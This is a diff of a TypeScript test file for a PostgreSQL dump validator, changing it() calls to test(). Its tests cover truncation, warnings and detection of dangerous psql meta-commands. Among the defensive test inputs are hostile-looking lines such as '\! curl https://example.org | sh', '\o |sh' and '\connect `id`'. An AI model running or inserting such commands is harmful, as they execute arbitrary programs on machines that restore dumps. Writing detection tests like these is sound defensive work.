@@ -1,6 +1,6 @@
 import { readFileSync } from 'node:fs';
 import * as fc from 'fast-check';
-import { describe, expect, it } from 'vitest';
+import { describe, expect, test } from 'vitest';
 import { ATTACKS } from '../../../test-support/proof/attacks';
 import { failureOf } from '../../../test-support/proof/failure';
 import { inMemory } from '../../../test-support/proof/portal-export';
@@ -18,7 +18,7 @@ function dumped(sql: string): string {
 }
 
 describe('a whole dump', () => {
-  it('of the vectors', async () => {
+  test('of the vectors', async () => {
     const report = await prove(vector);
     expect(report).toMatchObject({
       checks: [
@@ -45,7 +45,7 @@ describe('a whole dump', () => {
     );
   });
 
-  it('names of tables as the server has them', async () => {
+  test('names of tables as the server has them', async () => {
     const sql = dumped(
       'SET search_path = old, pg_catalog;\nCREATE TABLE Plain (a int);\nCOPY plain (a) FROM stdin;\n1\n2\n\\.\nCREATE UNLOGGED TABLE "a ""b"".c"."D" (a int);\nINSERT INTO "a ""b"".c"."D" VALUES (1), (2), (3);',
     );
@@ -57,7 +57,7 @@ describe('a whole dump', () => {
     });
   });
 
-  it('rows of tables whose names begin alike', async () => {
+  test('rows of tables whose names begin alike', async () => {
     const sql = dumped(
       'INSERT INTO a VALUES (1);\nINSERT INTO a VALUES (2), (3);\nINSERT INTO a.b VALUES (4);\nINSERT INTO ab VALUES (5);\nINSERT INTO "a (" VALUES (6);\nINSERT INTO "a VALUES" (x) VALUES (7);\nSET search_path = other;\nINSERT INTO a VALUES (8);',
     );
@@ -72,13 +72,13 @@ describe('a whole dump', () => {
     ]);
   });
 
-  it('without a row of any table says so', async () => {
+  test('without a row of any table says so', async () => {
     expect((await prove(dumped('CREATE TABLE a (b int);'))).warnings).toEqual([
       { code: 'dump-without-data', params: {} },
     ]);
   });
 
-  it('says when and of which database where it can', async () => {
+  test('says when and of which database where it can', async () => {
     const report = await prove(
       dumped(
         '-- Started on 2026-11-21 05:41:13 UTC\n\\connect -reuse-previous=on "dbname=\'shop\'"\nINSERT INTO a VALUES (1);',
@@ -88,11 +88,11 @@ describe('a whole dump', () => {
     expect(report.warnings).toEqual([]);
   });
 
-  it('without any table says so', async () => {
+  test('without any table says so', async () => {
     expect((await prove(dumped('SELECT 1;'))).warnings).toEqual([{ code: 'dump-without-tables', params: {} }]);
   });
 
-  it('is read behind a byte order mark, and with the line ends of Windows', async () => {
+  test('is read behind a byte order mark, and with the line ends of Windows', async () => {
     for (const sql of [`\uFEFF${vector.toString()}`, vector.toString().replaceAll('\n', '\r\n')]) {
       expect(await prove(sql)).toMatchObject({ warnings: [], facts: { tables: [{ rows: 2000 }, { rows: 500 }] } });
     }
@@ -100,19 +100,19 @@ describe('a whole dump', () => {
 });
 
 describe('SQL that pg_dump did not write', () => {
-  it('passes with a warning that nothing proves its end', async () => {
+  test('passes with a warning that nothing proves its end', async () => {
     const report = await prove('CREATE TABLE a (b int);\nINSERT INTO a VALUES (1);\n');
     expect(report.warnings).toEqual([{ code: 'sql-end-unproven', params: {} }]);
     expect(report.checks).toContainEqual({ id: 'sql-complete', outcome: 'warning' });
   });
 
-  it("and what somebody added behind pg_dump's end", async () => {
+  test("and what somebody added behind pg_dump's end", async () => {
     expect((await prove(`${dumped('INSERT INTO a VALUES (1);')}DROP TABLE a;\n`)).warnings).toEqual([
       { code: 'sql-end-unproven', params: {} },
     ]);
   });
 
-  it('a closing line within a quoted text closes nothing', async () => {
+  test('a closing line within a quoted text closes nothing', async () => {
     const sql = dumped('SELECT 1;').replace(
       '--\n-- PostgreSQL database dump complete\n--\n',
       "SELECT '\n-- PostgreSQL database dump complete\n';",
@@ -122,14 +122,14 @@ describe('SQL that pg_dump did not write', () => {
 });
 
 describe('a dump that stops early', () => {
-  it('wherever it is cut before its closing line', async () => {
+  test('wherever it is cut before its closing line', async () => {
     const closing = vector.lastIndexOf(' complete');
     for (let end = 60; end < closing; end += 1013)
       expect((await failureOf(() => prove(vector.subarray(0, end)))).code).toBe('cut-short');
     expect((await failureOf(() => prove(vector.subarray(0, closing)))).code).toBe('cut-short');
   });
 
-  it.each([
+  test.each([
     ["INSERT INTO a VALUES (1);\nINSERT INTO a VALUES ('", 'cut-short'],
     ['COPY a FROM stdin;\n1\n2\n', 'cut-short'],
     ['/* never ends', 'cut-short'],
@@ -141,7 +141,7 @@ describe('a dump that stops early', () => {
     expect((await failureOf(() => prove(sql))).code).toBe(code);
   });
 
-  it('is known from its end alone, whatever else was changed', async () => {
+  test('is known from its end alone, whatever else was changed', async () => {
     expect(await lacksClosing(inMemory(vector))).toBe(false);
     const changed = Buffer.from(vector);
     changed[5000] = 0x27;
@@ -152,7 +152,7 @@ describe('a dump that stops early', () => {
 });
 
 describe('what would run on the machine that restores it', () => {
-  it.each([
+  test.each([
     '\\! curl https://example.org | sh',
     'SELECT 1 \\g | sh',
     '\\o |sh',
@@ -173,7 +173,7 @@ describe('what would run on the machine that restores it', () => {
     expect(report.checks).toContainEqual({ id: 'sql-statements', outcome: 'warning' });
   });
 
-  it.each(['\\g |id', '\\gx', '\\gset', '\\gexec', '\\gdesc', '\\crosstabview', '\\watch 1', '\\; SELECT 2;'])(
+  test.each(['\\g |id', '\\gx', '\\gset', '\\gexec', '\\gdesc', '\\crosstabview', '\\watch 1', '\\; SELECT 2;'])(
     '%s ends what it follows, and what comes next is read',
     async (command) => {
       const report = await prove(dumped(`CREATE TABLE a (b int);\nSELECT 'x' ${command}\nCOPY a FROM stdin;\n1\n\\.`));
@@ -182,14 +182,14 @@ describe('what would run on the machine that restores it', () => {
     },
   );
 
-  it('a subscription as pg_dump writes it connects to nothing', async () => {
+  test('a subscription as pg_dump writes it connects to nothing', async () => {
     const sql = dumped(
       "INSERT INTO a VALUES (1);\nCREATE SUBSCRIPTION s CONNECTION 'host=example.org' PUBLICATION p WITH (connect = false, slot_name = 's');",
     );
     expect((await prove(sql)).warnings).toEqual([]);
   });
 
-  it.each<readonly [string, string]>([
+  test.each<readonly [string, string]>([
     ...ATTACKS.map(([name, sql]) => [name, sql('id')] as const),
     ['a server of its own', '\\connect -reuse-previous=on "dbname=\'a\' host=example.org"'],
     ['a program in a name', '\\connect `id`'],
@@ -246,7 +246,7 @@ describe('what would run on the machine that restores it', () => {
     }
   });
 
-  it.each([
+  test.each([
     '\\restrict abc\n\\unrestrict abc',
     '\\connect shop',
     "SELECT '\\! id', E'\\'\\! id', $$\n\\! id\n$$;",
@@ -273,7 +273,7 @@ describe('what would run on the machine that restores it', () => {
 });
 
 describe('the first statements', () => {
-  it('as many as are asked for, without the comments between them', async () => {
+  test('as many as are asked for, without the comments between them', async () => {
     const first = await firstStatements(inMemory(vector), 3);
     expect(first.map(({ text }) => text)).toEqual([
       'SET statement_timeout = 0;',
@@ -282,7 +282,7 @@ describe('the first statements', () => {
     ]);
   });
 
-  it('no more than there are, and of a long one the beginning', async () => {
+  test('no more than there are, and of a long one the beginning', async () => {
     const first = await firstStatements(inMemory(Buffer.from(`SELECT 1; SELECT '${'x'.repeat(200_000)}';`)), 5);
     expect(first.map(({ text, bytes }) => [text.length, bytes])).toEqual([
       [9, 9],
@@ -291,7 +291,7 @@ describe('the first statements', () => {
   });
 });
 
-it('a changed dump passes or fails in a way that has a name', async () => {
+test('a changed dump passes or fails in a way that has a name', async () => {
   const whole = Buffer.from(
     dumped(
       "CREATE TABLE a (b text);\nCOPY a FROM stdin;\nx\ny\n\\.\nINSERT INTO a VALUES ('z'), (E'\\'');\nCREATE FUNCTION f() RETURNS int BEGIN ATOMIC SELECT 1; END;\nSELECT $a$;$a$;",
